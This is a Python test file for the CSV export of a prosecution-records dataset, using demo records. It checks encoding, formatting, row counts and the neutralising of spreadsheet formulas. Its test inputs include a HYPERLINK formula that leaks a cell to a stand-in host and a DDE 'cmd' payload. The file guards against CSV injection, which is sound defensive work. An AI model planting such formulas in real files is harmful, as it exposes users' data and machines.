"""CSV downloads: safe in a spreadsheet, Cyrillic intact, and the very rows the counters count."""

import csv
import io
from dataclasses import replace
from datetime import date, datetime

import numpy as np
import pandas as pd
import pytest

from data import query
from data.dataset import PERSON_CODE, Dataset, SourceInfo
from data.export import case_rows, cell_text, csv_bytes, neutralise
from data.filters import FilterState
from data.schema import COLUMN_NAMES
from data.sources import combine

BOM = b"\xef\xbb\xbf"
FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"click")'


def varied(dataset: Dataset) -> Dataset:
    """The demo with what it lacks: life terms, real terms of unknown length, of no regime and
    in the open last bin (25 years and more), a case under two groups, a name that is a formula."""
    cases = dataset.cases.drop(columns=[PERSON_CODE]).copy()
    prison = np.flatnonzero((cases["punishment_type"] == "imprisonment").to_numpy())
    life, unknown, no_regime, longest = prison[:4], prison[4:9], prison[9:12], prison[12:14]
    cases.loc[life, "punishment_type"] = "life"
    cases.loc[life, ["sentence_months", "regime"]] = np.nan
    cases.loc[unknown, "sentence_months"] = np.nan
    cases.loc[no_regime, "regime"] = np.nan
    cases.loc[longest, "sentence_months"] = 310.0
    cases.at[0, "case_group"] = ("Антивоенное дело", "Госизмена")
    cases.at[1, "name"] = FORMULA
    return Dataset.build(cases, dataset.sources)


def two_lists(dataset: Dataset) -> Dataset:
    """The demo and a second list holding 300 of its records under the same person ids: persons
    are matched within a list, so the counters add the lists up."""
    second = dataset.cases.iloc[:300].drop(columns=[PERSON_CODE]).assign(source="second")
    other = Dataset.build(second.reset_index(drop=True), (SourceInfo("second", "Second"),))
    return combine([dataset, other])


@pytest.fixture(scope="module")
def rich(dataset):
    return varied(dataset)


@pytest.fixture(scope="module", params=["one list", "two lists"])
def lists(request, rich):
    return rich if request.param == "one list" else two_lists(rich)


def read_back(data: bytes, header_rows: int) -> pd.DataFrame:
    skip = header_rows + 1 if header_rows else 0
    return pd.read_csv(io.BytesIO(data), skiprows=skip, encoding="utf-8-sig", keep_default_na=False)


def cells(data: bytes) -> list[list[str]]:
    """The file as the cells a spreadsheet gets, exactly (no type guessing)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- neutralise ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [FORMULA, "+1", "-2", "@SUM(A1:A9)", "=1+1", "\t=1", "\r=1", "-", "+7 999 123-45-67"]
)
def test_a_string_that_starts_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Москва", "", "207.3 ч.2", "30 ч.1 - 278", "a=b", "'=already", "1+1", "e@mail.org"],
)
def test_other_strings_pass_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value", [-2, -2.5, np.int64(-2), np.float64(-0.5), date(2022, 2, 24), None, True, ("=x",)]
)
def test_values_that_are_not_strings_pass_unchanged(value):
    assert neutralise(value) is value


# --- csv_bytes ------------------------------------------------------------------------------------


def small_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": ["Иванов Иван", FORMULA, "+1", "-2", "@SUM(A1)", None],
            "number": [-2, 0, 1, 2, 3, 4],
            "months": [54.0, 6.5, np.nan, 12.0, 0.0, 1.25],
            "date": pd.to_datetime(["2022-02-24", None, "2023-01-05", None, None, "2024-12-31"]),
            "flag": pd.array([True, False, None, True, True, False], dtype="boolean"),
            "count": pd.array([1, None, 3, 4, 5, 6], dtype="Int64"),
            "regime": pd.Categorical(["общий", None, "строгий", "общий", "=x", None]),
            "articles": [("207.3 ч.2", "280.3"), (), ("205.5",), ("=1",), (), ()],
        }
    )


HEADER = (("Источник", "демонстрационные данные"), ("=label", "@value"), ("Фильтры", "-"))


def test_bom_once_and_crlf_line_ends():
    data = csv_bytes(small_frame(), HEADER)
    assert data.startswith(BOM) and not data[3:].startswith(BOM)
    assert data.count(b"\n") == data.count(b"\r\n") > 0


def test_header_block_then_an_empty_row_then_the_table():
    frame = small_frame()
    rows = cells(csv_bytes(frame, HEADER))
    assert rows[:3] == [
        ["Источник", "демонстрационные данные"],
        ["'=label", "'@value"],
        ["Фильтры", "'-"],
    ]
    assert rows[3] == []
    assert rows[4] == list(frame.columns)
    assert len(rows) == 5 + len(frame)


def test_without_a_header_block_the_table_starts_at_once():
    rows = cells(csv_bytes(small_frame()))
    assert rows[0] == list(small_frame().columns)


def test_cyrillic_survives_a_round_trip():
    back = read_back(csv_bytes(small_frame(), HEADER), len(HEADER))
    assert back["name"].iloc[0] == "Иванов Иван"
    assert back["regime"].tolist()[:3] == ["общий", "", "строгий"]
    assert back["articles"].iloc[0] == "207.3 ч.2; 280.3"


def test_formula_cells_are_neutralised_and_numbers_are_not():
    rows = cells(csv_bytes(small_frame()))
    names = [row[0] for row in rows[1:]]
    assert names == ["Иванов Иван", "'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", ""]
    assert [row[1] for row in rows[1:]] == ["-2", "0", "1", "2", "3", "4"]
    assert rows[5][6] == "'=x" and rows[4][7] == "'=1"  # a category, a joined list
    back = read_back(csv_bytes(small_frame()), 0)
    assert back["number"].iloc[0] == -2 and back["number"].dtype.kind == "i"


def test_a_column_name_is_neutralised_too():
    rows = cells(csv_bytes(pd.DataFrame({"=cmd|' /C calc'!A0": [1], "-x": [2]})))
    assert rows[0] == ["'=cmd|' /C calc'!A0", "'-x"]


def test_dates_iso_missing_empty_numbers_plain():
    rows = cells(csv_bytes(small_frame()))[1:]
    assert [row[3] for row in rows] == ["2022-02-24", "", "2023-01-05", "", "", "2024-12-31"]
    assert [row[2] for row in rows] == ["54", "6.5", "", "12", "0", "1.25"]
    assert [row[4] for row in rows] == ["true", "false", "", "true", "true", "false"]
    assert [row[5] for row in rows] == ["1", "", "3", "4", "5", "6"]
    assert [row[7] for row in rows] == ["207.3 ч.2; 280.3", "", "205.5", "'=1", "", ""]


def test_cell_texts_of_python_values():
    assert cell_text(date(2022, 2, 24)) == "2022-02-24"
    assert cell_text(datetime(2022, 2, 24, 13, 5)) == "2022-02-24"
    assert cell_text(np.datetime64("2022-02-24")) == "2022-02-24"
    assert cell_text(pd.NaT) == cell_text(pd.NA) == cell_text(None) == cell_text(np.nan) == ""
    assert cell_text(-2) == "-2" and cell_text(-2.0) == "-2" and cell_text(0.1) == "0.1"


def test_fast_column_paths_write_what_cell_by_cell_writes(rich):
    """csv_bytes formats whole columns by dtype for speed; every cell must come out as
    `cell_text` makes it one value at a time."""
    frame = pd.concat([case_rows(rich, FilterState()), small_frame()], axis=1)
    frame = frame.assign(raw_dates=rich.cases["custody_date"].iloc[: len(frame)].to_numpy())
    expected = [list(map(cell_text, frame.columns))]
    expected += [[cell_text(v) for v in row] for row in frame.astype(object).to_numpy()]
    assert cells(csv_bytes(frame)) == expected


# --- case_rows ------------------------------------------------------------------------------------

STATES = {
    "everything": FilterState(),
    "an article": FilterState(articles=("207.3",)),
    "a region": FilterState(regions=("RU-MOW",)),
    "a period": FilterState(date_from=date(2022, 2, 24), date_to=date(2023, 12, 31)),
    "a verdict period": FilterState(dates="verdict", date_from=date(2024, 1, 1)),
    "life": FilterState(punishments=("life",)),
    "a case group": FilterState(case_groups=("Госизмена",)),
    "held in a region": FilterState(held_regions=("RU-MOW", "RU-MOS")),
    "several filters": FilterState(
        articles=("207.3", "280.3"), punishments=("imprisonment",), date_from=date(2022, 1, 1)
    ),
}


@pytest.mark.parametrize("unit", ["persons", "prosecutions"])
@pytest.mark.parametrize("name", list(STATES))
def test_case_rows_are_the_rows_the_counters_count(lists, name, unit):
    state = replace(STATES[name], unit=unit)
    rows = case_rows(lists, state)
    counters = query.overview(lists, state).counters
    assert len(rows) == counters.prosecutions > 0
    assert len(rows[["source", "person_id"]].drop_duplicates()) == counters.persons
    assert counters.persons == sum(n for _, n in counters.persons_by_source)


def test_over_two_lists_a_person_is_a_person_of_one_list(rich):
    """The same ids on two lists are two persons, as the (summed) persons counter says."""
    both = two_lists(rich)
    rows = case_rows(both, FilterState())
    counters = query.overview(both, FilterState()).counters
    assert counters.summed_over_lists
    assert rows["person_id"].nunique() < counters.persons
    assert len(rows[["source", "person_id"]].drop_duplicates()) == counters.persons


def test_case_rows_hold_exactly_the_matching_cases(rich):
    cases = rich.cases
    moscow = case_rows(rich, FilterState(regions=("RU-MOW",)))
    assert sorted(moscow["case_id"]) == sorted(
        cases.loc[cases["region_code"] == "RU-MOW", "case_id"]
    )
    life = case_rows(rich, FilterState(punishments=("life",)))
    assert len(life) == 4 and set(life["punishment_type"]) == {"life"}
    period = case_rows(rich, FilterState(date_from=date(2022, 2, 24), date_to=date(2022, 12, 31)))
    days = pd.to_datetime(cases["custody_date"])
    inside = (days >= "2022-02-24") & (days < "2023-01-01")
    assert sorted(period["case_id"]) == sorted(cases.loc[inside, "case_id"])
    assert period["custody_date"].between("2022-02-24", "2022-12-31").all()


def test_case_rows_have_the_canonical_columns_in_schema_order(rich):
    rows = case_rows(rich, FilterState(articles=("207.3",)))
    assert list(rows.columns) == list(COLUMN_NAMES)
    assert PERSON_CODE not in rows.columns and "_line" not in rows.columns
    assert rows.index.tolist() == list(range(len(rows)))


def test_case_rows_join_lists_and_write_dates_as_days(rich):
    rows = case_rows(rich, FilterState())
    cases = rich.cases
    assert rows.at[0, "case_group"] == "Антивоенное дело; Госизмена"
    several = cases["articles"].map(len) > 1
    assert several.any()
    first = int(np.flatnonzero(several.to_numpy())[0])
    assert rows.at[first, "articles"] == "; ".join(cases.at[first, "articles"])
    expected = cases["custody_date"].dt.strftime("%Y-%m-%d").fillna("")
    assert rows["custody_date"].tolist() == expected.tolist()
    assert "" in set(rows["custody_date"])  # some cases have no arrest date: an empty cell


def test_a_case_export_opens_safely_in_a_spreadsheet(rich):
    state = FilterState()
    header = (("Источник", "демонстрационные данные (вымышленные записи)"),)
    data = csv_bytes(case_rows(rich, state), header)
    back = read_back(data, len(header))
    assert len(back) == query.overview(rich, state).counters.prosecutions
    assert back.at[1, "name"] == "'" + FORMULA
    assert back["name"].str.contains("Демонстров").any()
    assert back["case_group"].iloc[0] == "Антивоенное дело; Госизмена"
